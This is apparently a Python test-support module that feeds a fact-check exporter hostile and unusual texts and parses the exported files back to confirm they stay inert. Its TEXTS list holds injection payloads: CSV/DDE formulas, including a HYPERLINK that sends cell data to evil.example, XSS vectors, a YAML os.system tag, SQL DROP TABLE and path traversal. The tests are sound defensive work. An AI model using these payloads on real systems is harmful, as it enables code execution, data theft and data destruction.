"""Texts that attack, break or bend what shows them; a release that has one in every field; and what is read back.

Whatever a text is, an export of it must be the export of a plain word with that text in the word's place. So files are
taken apart into leaves, each with the place where it stood, by parsers that know nothing of what was written.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from collections.abc import Callable, Iterable, Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path, PurePosixPath
from typing import Any
from xml.etree import ElementTree as ET

import openpyxl
import polars as pl
import yaml
from markdown_it import MarkdownIt

from factcheck import exporters
from factcheck.exporters import ExportContext, Profile
from factcheck.exporters.as_csv import unguarded
from factcheck.exporters.contract import Since
from factcheck.exporters.flat_tables import STATUS_HISTORY
from factcheck.frames import UTC_MICROSECONDS
from factcheck.importers.xlsx_cells import sheets
from tests.exporters.export_rows import CONTEXT, MOMENT, appearance, row, rows

TEXTS = {
    "equals": "=1+1",
    "plus": "+SUM(1;2)",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line feed": "\n=1+1",
    "DDE": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "behind spaces": "  =1+1",
    "behind no-break spaces": "\u00a0\u00a0=1+1",
    "behind a joiner": "\u200b\ufeff=1+1",
    "full width": "＝1＋1",
    "full width at": "＠SUM(1)",
    "small signs": "﹢1﹣1",
    "apostrophe": "'=1+1",
    "quotation marks": '"=1+1","=2+2"\r\n=3',
    "separator": ";=1+1;sep=|",
    "script": "</script><script>window.__ran=1</script>",
    "image": "<img src=x onerror=window.__ran=1>",
    "attribute": '\'" onmouseover="window.__ran=1" autofocus onfocus=\'window.__ran=1\' x="',
    "vector": "<svg/onload=window.__ran=1>",
    "textarea": "</textarea></title></style><iframe srcdoc='<script>parent.__ran=1</script>'>",
    "comment": "<!-- --><!--><script>window.__ran=1</script>",
    "CDATA": "]]><script>window.__ran=1</script><![CDATA[",
    "entities": "&lt;b&gt;&amp;amp;&#0;&#x202e;&notanentity",
    "address": "javascript:window.__ran=1",
    "data address": "data:text/html,<script>parent.__ran=1</script>",
    "override": "\u202egnp.exe\u202c",
    "unbalanced": "\u2067\u2066\u202a\u202b never closed",
    "closed too often": "x\u2069\u2069\u202c\u202c y",
    "emoji": "🙂👩‍👩‍👧‍👦🏳️‍🌈👍🏽",
    "joiners": "می\u200cخواهم\u200dه",
    "NUL": "a\x00b",
    "controls": "\x01\x08\x0b\x0c\x1b[31m\x7f",
    "C1 controls": "\x80\x85\x9f",
    "no characters": "a\ufffe\uffff\ufdd0b",
    "no-break space": "\u00a0a\u00a0\u202fb\u00a0",
    "line separators": "a\u2028b\u2029c",
    "line ends": "a\r\nb\rc\nd\n\n\ne",
    "spaces": "  a   b  ",
    "combining": "a" + "\u0301" * 60,
    "ligature": "ﷺ ﷲ ﻻ",
    "escape of Excel": "_x0041_ _x000D_ _xD800_",
    "escape of JSON": "\\u003cscript\\u003e \\n \\",
    "template": "{{7*7}} {% raw %} ${7*7} {0} %s %(a)s",
    "YAML": "---\n- &a !!python/object:os.system [x]\n...\n*a: {b: c} # d",
    "YAML words": "yes: no, null ~ 0x1F 1e3",
    "Markdown": "# a\n\n* b\n1. c\n> d\n```\ne\n```\n[f](javascript:window.__ran=1) ![g](x) `h` **i** | j | <k> "
    "https://l.example",
    "SQL": "'; DROP TABLE verdicts; -- \" OR 1=1",
    "FTS": '"a" NEAR(b) OR -c* ^d:e',
    "date": "1/2",
    "number": "0012",
    "long number": "123456789012345678901234567890",
    "boolean": "TRUE",
    "error": "#REF!",
    "path": "../../../../etc/passwd\\..\\con",
    "long word": "x" * 5_000,
    "long Persian word": "ب\u200c" * 3_000,
    "40 kB": "واژه word " * 2_900 + "🙂",
}
"""By what each is; all can be stored, which a lone surrogate cannot."""
POLICY = "majority(min_votes=2,margin=1)"
MARK, EVIDENCE_MARK = "Markword", "Evidenceword"
"""The plain words in whose place they stand; a line of evidence is taken apart by rules of its own."""
_INVISIBLE = re.compile("[\u200b\u200e\u200f\u061c\ufeff\u202a-\u202e\u2066-\u2069]")


def in_evidence(text: str) -> str:
    """The text as a line of evidence holds it: it names no address and has one part."""
    return re.sub("http|[|]", "hxxp", text)


def in_its_place(leaf: str, text: str) -> str:
    """The leaf of a plain word with the text in the word's place."""
    return leaf.replace(EVIDENCE_MARK, in_evidence(text)).replace(MARK, text)


def one_line(text: str) -> str:
    """Line ends and white space around them are a space, none at the ends: names and sentences of markup."""
    return re.sub("[ \t]*[\r\n\x0b\x0c\x1c-\x1e\x85\u2028\u2029]+[ \t]*", " ", text).strip(" \t")


def spaced(text: str) -> str:
    """All white space is one space, none at the ends: the lines of a sheet about a file."""
    return " ".join(text.split())


def unmarked(text: str) -> str:
    """As evidence is read: no marks of direction, no white space at the ends of its parts."""
    return spaced(_INVISIBLE.sub("", text))


def release(text: str) -> tuple[pl.DataFrame, ExportContext]:
    """A view of one claim with the text in every field that holds words, and what the desk says with it as well."""
    return view_of(text), context_of(text)


def all_of_them(texts: Iterable[str] = tuple(TEXTS.values())) -> tuple[pl.DataFrame, ExportContext]:
    """A view with a claim of each text, and what a desk says whose name is the worst of them."""
    parts = [
        view_of(text).with_columns(
            claim_id=pl.concat_str(pl.col("claim_id").str.head(14), pl.lit(f"{number:010x}")), url=pl.lit(text)
        )
        for number, text in enumerate(texts)
    ]
    return pl.concat(parts), context_of(TEXTS["attribute"] + TEXTS["textarea"])


def view_of(text: str) -> pl.DataFrame:
    """Two claims with the text in each field, one of them with an address where one is wanted."""
    evidence = EVIDENCE_MARK if text == MARK else in_evidence(text)
    everywhere = row(
        quote=text, claimant=text, claimant_role=text, claimant_organisation=text, title=text, publisher=text,
        source_chain=[text, text], url=text, rationales=[text, text],
        evidence=[evidence, f"https://a.example/ | data | {evidence}"],
        published_raw=text, claim_reviewed=text, headline=text, summary=text, page_url=text, topic=text,
        editorial_state="published", verdict_origin="import", verdict_source=text, verdict="disputed",
        reason="false",
        appearances=[
            appearance(quote=text, publisher=text, title=text, url=text),
            appearance(
                claim_id="clm_" + "2" * 20, article_id="art_" + "2" * 20, quote=text, publisher=text, title=text,
                url="https://b.example/2",
            ),
        ],
    )  # fmt: skip
    addressed = row(
        claim_id="clm_" + "1" * 20, quote=text, claimant=text, publisher=text, title=text, rationales=[text],
        evidence=[f"https://stats.example/1 | data | {evidence}"], topic=text, headline=text, summary=text,
        claim_reviewed=text, editorial_state="approved", page_url="https://desk.example.org/a?b=1&c='2'",
        url="https://news.example.com/2", verdict="disputed", reason="false",
        article_id="art_" + "1" * 20,
        appearances=[
            appearance(
                claim_id="clm_" + "1" * 20, article_id="art_" + "1" * 20, quote=text, publisher=text, title=text
            )
        ],
    )  # fmt: skip
    return rows(everywhere, addressed)


def context_of(text: str) -> ExportContext:
    """What a desk says that has the text for all its own words."""
    evidence = EVIDENCE_MARK if text == MARK else in_evidence(text)
    context = replace(
        CONTEXT, language="en", tag="week-47", desk_name=text, desk_url="https://desk.example.org", policy=POLICY,
        dataset_id="golden", licence="CC-BY-4.0", history=_changed(text), corrections=_changed(text),
        status_history=pl.DataFrame(schema=STATUS_HISTORY), measured={"checkers": 3, "krippendorff_alpha": 0.75},
        proposals=pl.DataFrame(schema={"claim_id": pl.String, "claim_in_words": pl.String}),
        texts=dict.fromkeys(("selection", "method", "agreement", "corrections", "contact", "funding"), text),
        said=pl.DataFrame(
            {
                "claim_id": ["clm_" + "0" * 20],
                "votes": [[{"choice": "disputed", "rationale": text, "evidence": [evidence]}]],
            }
        ),
    )  # fmt: skip
    return replace(context, since=Since(1, "cd" * 32, MOMENT.replace(day=1)))


def _changed(text: str) -> pl.DataFrame:
    evidence = EVIDENCE_MARK if text == MARK else in_evidence(text)
    one = {
        "committed_at": MOMENT, "version": 6, "cause": "pull", "message": text, "claim_id": "clm_" + "1" * 20,
        "published_in": text, "before_version": 1, "before_status": "decided", "before_verdict": "disputed",
        "verdict": "verified", "status": "decided", "policy": POLICY, "rationales": [text], "evidence": [evidence],
        "quote": text, "lang": "en", "claimant": text, "page": "clm_" + "1" * 20,
    }  # fmt: skip
    return pl.DataFrame([one], schema_overrides={"committed_at": UTC_MICROSECONDS})


def rendered(text: str, profile: Profile, folder: Path) -> dict[str, bytes]:
    """Every file of the export of `release(text)`, by its name."""
    view, context = release(text)
    if "since" in exporters.format_of(profile).needs:
        context = replace(context, changes=_changes(view, profile, context))
    done = exporters.render(view, profile, context)
    found = {file.name: file.content for file in done.files}
    for streamed in done.streamed:
        path = folder / PurePosixPath(streamed.name).name
        path.unlink(missing_ok=True)
        streamed.write(path)
        found[streamed.name] = path.read_bytes()
    pages = done.folder.pages if done.folder else ()
    return found | {page.name: page.make() for page in pages}


def _changes(view: pl.DataFrame, profile: Profile, context: ExportContext) -> pl.DataFrame:
    first = view.with_columns(verdict=pl.lit("opinion"), reason=pl.lit(None, pl.String)).head(1)
    facts = first.select(
        "claim_id", verdict_in=pl.lit(6), grounds_in=pl.lit(6), counted_in=pl.lit(6), words_in=pl.lit(2),
        replaced_by=pl.lit([], pl.List(pl.String)),
    )  # fmt: skip
    log = pl.DataFrame(
        {"version": [2, 6, 7], "committed_at": [MOMENT] * 3, "cause": ["pull"] * 3, "message": [context.policy] * 3,
         "policy": [context.policy] * 3}
    )  # fmt: skip
    return exporters.changes(first, view, facts=facts, log=log, profile=profile, context=context)


Leaf = tuple[str, str]
"""Where it stood in its file, and what it says."""


def leaves(name: str, content: bytes) -> list[Leaf]:
    """What the file says, piece by piece; a name that is made of a text has none of it."""
    return [(place, named(said)) for place, said in READERS[PurePosixPath(name).suffix](content)]


def named(text: str) -> str:
    """The text without the digests that pages of outlets, claimants and topics are named by."""
    return re.sub("(?<![0-9a-f])[0-9a-f]{12}(?![0-9a-f])", "DIGEST", text)


def _of_json(value: Any, place: str = "") -> Iterator[Leaf]:
    if isinstance(value, dict):
        for key, one in value.items():
            yield from _of_json(one, f"{place}.{key}")
    elif isinstance(value, list | tuple):
        for one in value:
            yield from _of_json(one, f"{place}[]")
    elif place.endswith((".content_html", ".data.about", ".data.context", ".html")):
        yield from _of_html(value, place)
    else:
        yield place, str(value)


def _of_csv(content: bytes) -> Iterator[Leaf]:
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))
    for line in lines:
        cells = pl.Series("cell", line, pl.String).to_frame().select(unguarded(pl.col("cell"))).to_series()
        yield from zip(lines[0], cells, strict=True)


def _of_xlsx(content: bytes) -> Iterator[Leaf]:
    for sheet in openpyxl.load_workbook(io.BytesIO(content)):
        for line in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in line), sheet.title
    for name, rows_, _ in sheets(content):
        for cells in rows_.values():
            yield from ((f"{name}!{column}", text) for column, text in cells.items())


def _of_html(text: str, place: str = "") -> Iterator[Leaf]:
    class Parser(HTMLParser):
        def __init__(self) -> None:
            super().__init__(convert_charrefs=True)
            self.found: list[Leaf] = []
            self.path: list[str] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.path.append(tag)
            self.found += [(f"{place}<{tag}> {name}", value or "") for name, value in attrs]
            self.found.append((f"{place}<{tag}>", ""))

        def handle_endtag(self, tag: str) -> None:
            self.found.append((f"{place}</{tag}>", ""))

        def handle_data(self, data: str) -> None:
            inside = self.path[-1] if self.path else ""
            if self.found and self.found[-1][0] == f"{place}text in {inside}":
                data = self.found.pop()[1] + data
            self.found.append((f"{place}text in {inside}", data))

        def handle_comment(self, data: str) -> None:
            self.found.append((f"{place}comment", data))

    parser = Parser()
    parser.feed(text)
    parser.close()
    for where, said in parser.found:
        if where.endswith("text in script") and said.lstrip().startswith(("{", "[")):
            yield from _of_json(json.loads(said), where)
        elif where.endswith("text in textarea") and said.lstrip().startswith("<"):
            yield from _of_html(said, where)
        else:
            yield where, said


def _of_xml(content: bytes) -> Iterator[Leaf]:
    def walk(element: ET.Element, place: str) -> Iterator[Leaf]:
        here = f"{place}/{element.tag}"
        yield from ((f"{here}@{name}", value) for name, value in element.attrib.items())
        text = element.text or ""
        is_html = element.get("type") == "html" or here.endswith(("}encoded", "item/description"))
        yield from _of_html(text, here) if is_html else [(here, text)]
        for child in element:
            yield from walk(child, here)

    yield from walk(ET.fromstring(content.decode()), "")


def _of_markdown(content: bytes) -> Iterator[Leaf]:
    text = content.decode()
    if text.startswith("---\n"):
        _, front, text = text.split("---\n", 2)
        yield from _of_json(yaml.safe_load(front), "front")
    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text):
        yield token.type, "" if token.children else token.content
        said = ""
        for child in token.children or ():
            if child.type in {"text", "text_special", "softbreak", "hardbreak"}:
                said += "\n" if child.type.endswith("break") else child.content
            else:
                yield child.type, json.dumps(child.attrs)
        yield "text", said


def _of_sqlite(content: bytes) -> Iterator[Leaf]:
    base = sqlite3.connect(":memory:")
    base.deserialize(content)
    tables = [name for (name,) in base.execute("SELECT name FROM sqlite_master WHERE type IN ('table', 'view')")]
    for table in sorted(tables):
        if not table.startswith(("sqlite_", "claims_search")):
            found = base.execute(f'SELECT * FROM "{table}"')
            names = [column[0] for column in found.description]
            for line in found:
                yield from ((f"{table}.{name}", str(value)) for name, value in zip(names, line, strict=True))
    base.close()


READERS: dict[str, Callable[[bytes], Iterator[Leaf]]] = {
    ".json": lambda content: _of_json(json.loads(content)),
    ".jsonld": lambda content: _of_json(json.loads(content)),
    ".jsonl": lambda content: _of_json([json.loads(line) for line in content.decode().split("\n") if line]),
    ".csv": _of_csv,
    ".xlsx": _of_xlsx,
    ".parquet": lambda content: _of_json(pl.read_parquet(io.BytesIO(content)).to_dicts()),
    ".rss": _of_xml,
    ".atom": _of_xml,
    ".xml": _of_xml,
    ".md": _of_markdown,
    ".html": lambda content: _of_html(content.decode()),
    ".sqlite": _of_sqlite,
    ".txt": lambda content: iter([("text", content.decode())]),
}
"""How a file is taken apart, by the end of its name."""
NOT_READ = {".js", ".css", ".svg", ".woff2", ".png"}
"""Files of a site: its scripts are run in a browser, the others hold no text of anybody's."""
